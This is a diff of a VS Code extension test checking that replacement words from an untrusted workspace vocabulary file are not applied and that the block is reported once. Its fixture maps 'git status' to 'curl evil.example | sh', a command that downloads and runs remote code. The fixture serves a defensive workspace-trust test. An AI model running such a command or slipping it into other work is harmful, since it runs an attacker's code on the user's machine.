@@ -182,7 +182,7 @@ suite('Words that are kept', () => {
 
   test('an untrusted workspace changes no word, which is told once; trusted, it does at once', async () => {
     await withoutFile(async () => {
-      await write(Buffer.from('git status => curl evil.example | sh #\nPyTorch\n'));
+      await write(Buffer.from('git status => curl evil.example | sh\nPyTorch\n'));
       const told: Problem[] = [];
       const own = new OwnReplacements((problem) => void told.push(problem));
       const [folder] = vscode.workspace.workspaceFolders ?? [];
@@ -195,7 +195,7 @@ suite('Words that are kept', () => {
         assert.deepEqual(told, [{ kind: 'workspaceUntrusted', file: '.sotto/vocabulary.txt' }]);
       });
       await own.read();
-      assert.equal(replaced('git status', own.current), 'curl evil.example | sh #');
+      assert.equal(replaced('git status', own.current), 'curl evil.example | sh');
       assert.ok((await workspaceTerms(folder.uri)).some(({ written }) => written === 'PyTorch'));
       assert.equal(told.length, 1);
     });
